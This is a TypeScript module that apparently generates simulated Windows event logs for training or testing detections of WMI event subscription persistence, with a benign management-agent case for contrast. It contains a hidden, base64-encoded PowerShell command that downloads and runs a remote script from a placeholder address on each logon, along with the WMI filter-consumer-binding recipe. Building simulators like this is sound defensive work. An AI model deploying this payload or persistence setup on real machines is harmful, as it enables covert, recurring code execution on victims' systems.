import { type EventModel, security, sysmon, wmi } from '../events/index.ts';
import { seconds } from '../evtx/filetime.ts';
import { type AttackPlan, nameOf, POWERSHELL, type SimulatedAttack, toolOf } from './attack-parts.ts';
import type { SimulatedHost } from './host.ts';

const LOGON_QUERY =
  "SELECT * FROM __InstanceCreationEvent WITHIN 15 WHERE TargetInstance ISA 'Win32_LogonSession' AND TargetInstance.LogonType = 2";

/** A triad that somebody plants on the machine where he sits, to come back at each sign-in; `plan.target` plays no part. */
export function localTriad(plan: AttackPlan): SimulatedAttack {
  const out: EventModel[] = [];
  const { source: host, account, time } = plan;
  const script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/stay.ps1')";
  const payload = `powershell.exe -NoP -W Hidden -EncodedCommand ${Buffer.from(script, 'utf16le').toString('base64')}`;
  const names = { filter: 'SessionHealthFilter', consumer: 'SessionHealth' };
  toolOf(out, plan, POWERSHELL, `"${POWERSHELL}" -File C:\\Users\\Public\\stay.ps1`);
  const user = nameOf(account);
  out.push(
    sysmon.filter({ name: names.filter, query: LOGON_QUERY, user }, host.at(time)),
    sysmon.consumer({ name: names.consumer, destination: payload, user }, host.at(time + 400_000n)),
    sysmon.binding({ ...names, user }, host.at(time + 800_000n)),
    wmi.binding(
      { name: names.filter, query: LOGON_QUERY, eventNamespace: 'root\\cimv2', creatorSid: account.sid },
      {
        class: 'CommandLineEventConsumer',
        name: names.consumer,
        properties: { CommandLineTemplate: payload },
        creatorSid: account.sid,
      },
      host.at(time + 900_000n),
    ),
  );
  return {
    truth: {
      name: 'local triad',
      hops: [],
      children: [],
      subscriptions: [{ computer: host.computer, ...names, payload, creator: user, hasFired: false }],
      analytics: ['C01'],
      level: 'high',
    },
    events: out,
  };
}

/** What an agent of a management product leaves: its own service, as SYSTEM, has low disk space written into the event log. */
export function managementSubscription(host: SimulatedHost, time: bigint): readonly EventModel[] {
  const out: EventModel[] = [];
  const image = 'C:\\Program Files\\Example Management\\agent.exe';
  const agent = host.start(out, time - seconds(2), { image, parent: host.services.services });
  const query =
    "SELECT * FROM __InstanceModificationEvent WITHIN 900 WHERE TargetInstance ISA 'Win32_LogicalDisk' AND TargetInstance.FreeSpace < 1073741824";
  const names = { filter: 'ExampleManagement_LowDisk', consumer: 'ExampleManagement_LowDiskLog' };
  const { sid } = security.SYSTEM_ACCOUNT;
  out.push(
    wmi.scmBinding(host.at(time - seconds(30))),
    wmi.binding(
      { name: names.filter, query, eventNamespace: 'root\\cimv2', creatorSid: sid },
      {
        class: 'NTEventLogEventConsumer',
        name: names.consumer,
        properties: { Category: 0, EventID: 4100, EventType: 2, SourceName: 'Example Management' },
        creatorSid: sid,
      },
      host.at(time),
    ),
  );
  host.end(out, time + seconds(20), agent);
  return out;
}
